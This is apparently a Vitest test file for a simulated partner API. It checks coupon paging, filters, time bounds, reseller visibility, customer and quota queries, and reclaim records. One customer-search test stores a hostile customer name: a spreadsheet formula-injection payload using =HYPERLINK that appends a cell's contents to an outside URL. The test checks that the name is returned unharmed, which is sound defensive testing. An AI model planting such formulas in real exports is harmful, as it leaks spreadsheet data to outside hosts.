import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { DISTRIBUTOR, PROVIDER, RESELLER } from '../world/accounts.ts';
import { COUPONS, RECORDS, rows, START, startFarSide, usable, type FarSide, type Reply } from './test-far-side.ts';

let far: FarSide;
let provider: string;
let distributor: string;
let resellerId: string;

beforeAll(async () => {
  far = await startFarSide();
  provider = await far.signIn();
  distributor = await far.signIn(DISTRIBUTOR);
  resellerId = far.world.partners.get(RESELLER)?.id ?? '';
});
afterEach(() => expect(far.world.breaches).toEqual([]));
afterAll(() => far.close());

function get(path: string, token = provider): Promise<Reply> {
  return far.ask({ path, token });
}

function post(path: string, body: unknown, token = distributor): Promise<Reply> {
  return far.ask({ path: `/v2/partners/${path}/query`, token, body });
}

async function readAll(path: string): Promise<Record<string, unknown>[]> {
  const all: Record<string, unknown>[] = [];
  for (;;) {
    const reply = await get(`${path}&limit=100&offset=${all.length}`);
    all.push(...rows(reply, 'user_coupons'));
    if (all.length >= Number(reply.json['total_count'])) return all;
  }
}

const iso = (ms: number): string => `${new Date(ms).toISOString().slice(0, 19)}Z`;

describe('issued coupons', () => {
  test('paging gives each resale coupon of the last twelve months once', async () => {
    const shown = await readAll(`${COUPONS}?coupon_type=1`);
    const ids = new Set(shown.map((row) => row['coupon_id']));
    const expected = far.world
      .couponsOf(PROVIDER)
      .filter(
        (coupon) =>
          coupon.couponType === 1 &&
          coupon.expiresAt > Date.UTC(2025, 2, 2, 2) &&
          far.world.customers.get(coupon.customerId)?.associationType === 'resale',
      );
    expect(ids.size).toBe(shown.length);
    expect(ids).toEqual(new Set(expected.map(({ couponId }) => couponId)));
    expect(far.world.couponsOf(PROVIDER).some(({ expiresAt }) => expiresAt < Date.UTC(2025, 2, 2))).toBe(true);
  });

  test('ten rows by default, filters by state and id', async () => {
    const page = await get(`${COUPONS}?status=5`);
    expect(rows(page, 'user_coupons').map((row) => row['status'])).toEqual(Array(10).fill(5));
    const { couponId, balanceFen } = usable(far.world, PROVIDER);
    const one = rows(await get(`${COUPONS}?coupon_id=${couponId}`), 'user_coupons');
    expect(one).toMatchObject([{ coupon_id: couponId, status: 2, balance: balanceFen / 100, is_frozen: '0' }]);
  });

  test('bounds are exclusive', async () => {
    const { couponId, expiresAt } = usable(far.world, PROVIDER);
    const count = async (bounds: string): Promise<unknown> => (await get(`${COUPONS}?coupon_id=${couponId}&${bounds}`)).json['total_count'];
    expect(await count(`expire_time_begin=${iso(expiresAt)}`)).toBe(0);
    expect(await count(`expire_time_end=${iso(expiresAt)}`)).toBe(0);
    expect(await count(`expire_time_begin=${iso(expiresAt - 1000)}&expire_time_end=${iso(expiresAt + 1000)}`)).toBe(1);
  });

  test('a distributor sees its own, or those of one reseller, and not those of a stranger', async () => {
    const own = await get(`${COUPONS}?limit=100`, distributor);
    const theirs = await get(`${COUPONS}?limit=100&indirect_partner_id=${resellerId}`, distributor);
    const ofReseller = new Set(far.world.couponsOf(RESELLER).map(({ couponId }) => couponId));
    const shown = rows(theirs, 'user_coupons').map((row) => String(row['coupon_id']));
    expect(shown.length).toBeGreaterThan(0);
    expect(shown.every((id) => ofReseller.has(id))).toBe(true);
    expect(rows(own, 'user_coupons').some((row) => ofReseller.has(String(row['coupon_id'])))).toBe(false);
    const stranger = await get(`${COUPONS}?indirect_partner_id=${'0'.repeat(32)}`, distributor);
    expect([stranger.status, stranger.json['error_code']]).toEqual([400, 'CBC.99000037']);
    const ignored = await get(`${COUPONS}?indirect_partner_id=${resellerId}`);
    expect(ignored.json['total_count']).toBe((await get(COUPONS)).json['total_count']);
  });
});

describe('customers, resellers, quotas', () => {
  test('customers of both kinds, found by a part of their name, hostile names unharmed', async () => {
    const both = await post('sub-customers', {}, provider);
    const resale = await post('sub-customers', { association_type: '2' }, provider);
    expect([both.json['count'], resale.json['count']]).toEqual([300, 210]);
    const formula = await post('sub-customers', { customer: 'HYPERLINK' }, provider);
    expect(rows(formula, 'customer_infos')[0]?.['customer']).toBe('=HYPERLINK("http://example.com/?x="&A1,"点击")');
    const none = await post('sub-customers', { customer_id: 'nobody' }, provider);
    expect([none.status, none.json['count']]).toEqual([200, 0]);
    const theirs = await post('sub-customers', { indirect_partner_id: resellerId });
    expect(theirs.json['count']).toBe(20);
  });

  test('twelve resellers, or the one asked for', async () => {
    expect((await post('indirect-partners', {})).json['count']).toBe(12);
    const one = await post('indirect-partners', { indirect_partner_id: resellerId });
    expect(rows(one, 'indirect_partners')).toMatchObject([{ account_name: RESELLER }]);
  });

  test('quotas by state, vouchers by default', async () => {
    const frozen = rows(await post('coupon-quotas', { quota_status_list: [5], limit: 100 }, provider), 'quotas');
    expect(frozen.length).toBeGreaterThan(0);
    expect(frozen.every((row) => row['quota_status'] === 5 && row['quota_type'] === 0)).toBe(true);
  });
});

describe('records', () => {
  test('by coupon and type; a bound at the second of the reclaim leaves it out', async () => {
    far.world.clock.stop();
    far.world.clock.set(START + 5_250);
    const coupon = usable(far.world, PROVIDER);
    const fen = coupon.balanceFen;
    await far.reclaim(provider, coupon);
    const path = `${RECORDS}?coupon_ids=${coupon.couponId}&coupon_ids=unknown`;
    const found = rows(await get(`${path}&operation_types=2`), 'records');
    expect(found).toMatchObject([
      { coupon_id: coupon.couponId, operation_amount: fen / 100, operation_time: iso(START + 5_000), result: '0' },
    ]);
    expect((await get(`${path}&operation_time_begin=${iso(START + 5_000)}`)).json['total_count']).toBe(0);
    expect((await get(`${path}&operation_time_begin=${iso(START + 4_000)}`)).json['total_count']).toBe(1);
    expect((await get(path)).json['total_count']).toBe(2);
  });
});
